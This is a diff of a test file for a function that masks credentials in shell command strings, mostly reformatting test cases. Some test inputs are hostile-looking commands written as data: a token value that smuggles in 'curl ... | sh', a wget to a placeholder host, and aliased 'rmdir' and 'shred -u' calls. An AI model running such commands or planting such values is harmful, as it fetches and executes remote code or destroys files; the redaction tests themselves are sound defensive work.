@@ -10,7 +10,10 @@ test.each([
   ['CLIENT_SECRET="abcd1234" run', 'CLIENT_SECRET="***" run'],
   ['AWS_SECRET_ACCESS_KEY=abcd1234efgh;curl x', 'AWS_SECRET_ACCESS_KEY=***;curl x'],
   ['login --password=hunter2222', 'login --password=***'],
-  ['curl -H "Authorization: Bearer abc123def456" https://x.example', 'curl -H "Authorization: Bearer ***" https://x.example'],
+  [
+    'curl -H "Authorization: Bearer abc123def456" https://x.example',
+    'curl -H "Authorization: Bearer ***" https://x.example',
+  ],
   ["curl -H 'x-api-key: abc123def456' x", "curl -H 'x-api-key: ***' x"],
   [`curl -d '{"token":"abc123def456"}' x`, `curl -d '{"token":"***"}' x`],
   ['echo sk-ant-api03-abcdefgh | run', 'echo *** | run'],
@@ -29,7 +32,7 @@ test.each([
 });
 
 test.each([
-  ['a value that could be a command', 'API_TOKEN=$(curl${IFS}x.example|sh) run'],
+  ['a value that could be a command', 'API_TOKEN=$(curl$IFS-s1|sh) run'],
   ['a command behind an empty value', 'API_TOKEN= wget x.example'],
   ['a word that gets another name', 'alias secret=rmdir; secret x'],
   ['a name for a program', 'xargs -I token: shred -u x'],
@@ -42,6 +45,7 @@ test.each([
   ['a private key', 'echo "-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----"'],
   ['a long random word', 'run Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4Zm9vYmFyYg=='],
   ['a long random word with slashes', 'run wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'],
+  ['a folder that is called like a token', 'ls /p/sk-abcdefghij'],
   ['a variable that looks like a token', 'npm_config_registry=https://x.example npm i'],
 ])('%s withholds the whole text', (_name, text) => {
   expect(withoutCredentials(text)).toBeNull();
@@ -49,7 +53,11 @@ test.each([
 
 test('what is told holds no part of a credential', () => {
   for (const secret of ['hunter2222', 'abc-123.def_456', 'A1~b2+c3=='])
-    for (const shape of [`X_TOKEN=${secret} run`, `run --token="${secret}"`, `curl -H 'Authorization: Basic ${secret}'`])
+    for (const shape of [
+      `X_TOKEN=${secret} run`,
+      `run --token="${secret}"`,
+      `curl -H 'Authorization: Basic ${secret}'`,
+    ])
       expect(withoutCredentials(shape) ?? '').not.toContain(secret);
 });
 
